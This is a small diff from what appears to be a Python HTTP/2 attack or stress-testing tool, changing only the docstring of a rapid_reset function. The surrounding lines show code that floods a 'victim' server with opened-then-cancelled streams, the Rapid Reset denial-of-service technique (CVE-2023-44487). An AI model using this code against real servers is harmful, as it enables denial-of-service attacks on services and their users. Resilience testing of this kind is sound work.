@@ -36,7 +36,7 @@ def _flood(frames: Callable[[], Iterable[bytes]], victim: Victim, start: bytes =
 
 
 def rapid_reset(victim: Victim) -> None:
-    """Requests that are given up as soon as they are sent (CVE-2023-44487)."""
+    """Requests that are cancelled as soon as they are sent (CVE-2023-44487)."""
     _flood(
         lambda: (
             begin(one, _BLOCK) + http2.frame(http2.RESET, 0, one, http2.CANCELLED) for one in _STREAMS()
